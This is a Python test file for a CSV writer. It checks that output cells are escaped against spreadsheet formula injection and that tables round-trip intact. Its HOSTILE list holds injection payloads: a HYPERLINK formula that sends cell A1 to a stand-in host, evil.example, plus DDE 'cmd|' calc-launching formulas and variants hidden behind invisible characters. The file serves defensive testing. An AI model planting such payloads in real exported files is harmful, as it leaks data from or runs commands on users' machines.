"""CSV goes back to what it was, and no cell of it is a formula for a spreadsheet."""

from __future__ import annotations

import csv as reader
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from protocols import csv

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\0=1+1",
    "'=1+1",
    "''=1+1",
    "\tplain",
    "\rplain",
)


def seen(text: str) -> list[list[str]]:
    """As a spreadsheet reads it."""
    return list(reader.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_hostile_cell_is_a_formula(cell: str) -> None:
    assert seen(csv.line(("before", cell, "after"))) == [["before", f"'{cell}", "after"]]


@pytest.mark.parametrize("sign", SIGNS)
def test_no_cell_begins_with_a_sign_of_a_formula(sign: str) -> None:
    assert seen(csv.line((sign, f"{sign}1", f" {sign}1", f"a{sign}1"))) == [
        [f"'{sign}", f"'{sign}1", f"' {sign}1", f"a{sign}1"]
    ]


def test_plain_cells_stay_as_they_are() -> None:
    assert (
        csv.line(("红楼梦", "a-b", "O'Reilly", "'s-Gravenhage", "", None)) == "红楼梦,a-b,O'Reilly,'s-Gravenhage,,\r\n"
    )
    assert csv.line((-5, 0, 1.5, True)) == "-5,0,1.5,True\r\n"


def test_whatever_parts_cells_is_quoted() -> None:
    assert csv.line(("a,b", 'say "so"', "a;=b", "a\tb", "a\r\nb", "a|b", " a", "a ")) == (
        '"a,b","say ""so""","a;=b","a\tb","a\r\nb","a|b"," a","a "\r\n'
    )


@given(st.lists(st.lists(st.text() | st.sampled_from(HOSTILE), min_size=2, max_size=5), max_size=5))
def test_a_table_goes_there_and_back(rows: list[list[str]]) -> None:
    text = "".join(csv.lines(rows))
    cells = seen(text)
    assert [len(row) for row in cells] == [len(row) for row in rows]
    for row, was in zip(cells, rows, strict=True):
        for cell, before in zip(row, was, strict=True):
            assert cell in (before, f"'{before}")
            assert cell[:1] not in SIGNS + "\t\r\n" or not cell


def test_what_began_with_apostrophes_is_told_from_what_got_one() -> None:
    cells = ("=1", "'=1", "''=1", "'a", "''")
    written = [csv.line((cell,)).removesuffix("\r\n") for cell in cells]
    assert written == ["'=1", "''=1", "'''=1", "'a", "''"]
    assert len(set(written)) == len(cells)


def test_the_mark_comes_once_and_first() -> None:
    assert "".join(csv.lines([["a"], ["b"]], mark=True)) == "\ufeffa\r\nb\r\n"
    assert "".join(csv.lines([["a"]])) == "a\r\n"
